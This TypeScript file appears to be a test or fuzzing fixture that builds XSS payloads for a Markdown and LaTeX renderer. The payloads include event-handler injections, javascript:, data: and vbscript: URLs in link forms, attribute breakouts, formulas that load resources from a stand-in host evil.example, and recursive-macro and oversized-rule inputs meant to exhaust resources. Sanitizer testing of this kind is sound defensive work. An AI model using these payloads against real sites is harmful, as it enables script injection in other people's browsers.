/** Spellings made out of parts: every event on some element, every scheme in every kind of link, every sign in every context. */
const EVENTS =
  `abort animationend animationiteration animationstart auxclick beforecopy beforecut beforeinput beforematch beforepaste
  beforetoggle beforexrselect blur cancel canplay change click close command contentvisibilityautostatechange contextlost contextmenu
  copy cuechange cut dblclick dragend dragenter dragover dragstart drop durationchange emptied ended error focus focusin focusout
  formdata fullscreenchange gotpointercapture hashchange input invalid keydown keypress keyup load loadeddata loadstart
  lostpointercapture message mousedown mouseenter mousemove mouseover mouseup mousewheel pagehide pageshow paste pause play playing
  pointercancel pointerdown pointerenter pointerleave pointermove pointerout pointerover pointerrawupdate pointerup popstate progress
  ratechange repeat reset resize scroll scrollend search securitypolicyviolation seeked select selectionchange selectstart
  slotchange stalled storage submit suspend timeupdate toggle touchend touchmove touchstart transitionend transitionrun
  transitionstart unhandledrejection unload volumechange waiting webkitanimationend webkittransitionend wheel`.split(
    /\s+/,
  );
const ELEMENTS = [
  'img src=x',
  'svg',
  'b tabindex=0 autofocus',
  'input autofocus',
  'video src=x',
  'details open',
  'x contenteditable',
  'math',
];
const byEvents = EVENTS.flatMap((event, at) => [
  `<${ELEMENTS[at % ELEMENTS.length]} on${event}=alert(1)>`,
  `<${ELEMENTS[(at + 3) % ELEMENTS.length]}/ON${event.toUpperCase()}="alert&#40;1&#41;">a`,
]);

const SCHEMES = [
  'javascript:alert(1)',
  'JAVASCRIPT:alert(1)',
  'java&Tab;script:alert(1)',
  'java&NewLine;script:alert(1)',
  'javascript&#58;alert(1)',
];
const MORE_SCHEMES = [
  '&#x6a;avascript:alert(1)',
  'javascript:%61lert(1)',
  'data:text/html,<b onfocus=alert(1)>',
  'data:image/svg+xml,<svg/onload=alert(1)>',
  'vbscript:alert(1)',
];
const bySchemes = [...SCHEMES, ...MORE_SCHEMES].flatMap((address) => [
  `[a](${address})`,
  `[a](<${address}>)`,
  `![a](${address})`,
  `<a href="${address}">a</a>`,
  `<form action="${address}"><button>a</button></form>`,
  `<iframe src="${address}"></iframe>`,
  `<svg><a xlink:href="${address}"><text>a</text></a></svg>`,
]);

const CORES = [
  '<img src=x onerror=alert(1)>',
  '<script>alert(1)</script>',
  '"onfocus=alert(1) autofocus="',
  "'><svg onload=alert(1)>",
];
const CONTEXTS: readonly ((core: string) => string)[] = [
  (core) => `**${core}**`,
  (core) => `_${core}_`,
  (core) => `~~${core}~~`,
  (core) => `# ${core}`,
  (core) => `> ${core}`,
  (core) => `1. ${core}`,
  (core) => `- [ ] ${core}`,
  (core) => `[${core}](https://example.org)`,
  (core) => `[a](https://example.org/${core})`,
  (core) => `[a](https://example.org "${core}")`,
  (core) => `\`${core}\``,
  (core) => `@${core}`,
  (core) => `:${core}:`,
  (core) => `/me ${core}`,
  (core) => `$${core}$`,
  (core) => `$$${core}$$`,
  (core) => `$\\text{${core}}$`,
  (core) => `$\\href{${core}}{x}$`,
];
const byContexts = CONTEXTS.flatMap((context) => CORES.map(context));

const formulas = [
  '\\href{javascript:alert(1)}{x}',
  '\\url{javascript:alert(1)}',
  '\\includegraphics{https://evil.example/x.png}',
  '\\htmlStyle{background:url(https://evil.example)}{x}',
  '\\htmlClass{a" onload="alert(1)}{x}',
  '\\htmlId{x" onfocus="alert(1)}{x}',
  '\\htmlData{x=" onfocus=alert(1) "}{x}',
  '\\textcolor{red" onload="alert(1)}{x}',
  '\\color{#fff;background:url(//evil.example)}x',
  '\\def\\a{\\a\\a}\\a',
  '\\unicode{x3cscript}',
  '\\text{<math><mi//xlink:href="javascript:alert(1)">}',
  '\\begin{array}{c}<img/src=x onerror=alert(1)>\\end{array}',
  '\\rule{9999em}{9999em}',
].flatMap((formula) => [`$${formula}$`, `$$${formula}$$`]);

/** Of these several go into one text: each stands alone between empty lines. */
export const madePayloads: readonly string[] = [...new Set([...byEvents, ...bySchemes, ...byContexts, ...formulas])];

/** As few texts of this length as hold them all. */
export function packed(payloads: readonly string[], most: number, between: string): string[] {
  const texts: string[] = [];
  for (const payload of payloads.filter((one) => one.length <= most)) {
    const last = texts.at(-1);
    if (last !== undefined && last.length + between.length + payload.length <= most)
      texts[texts.length - 1] = last + between + payload;
    else texts.push(payload);
  }
  return texts;
}
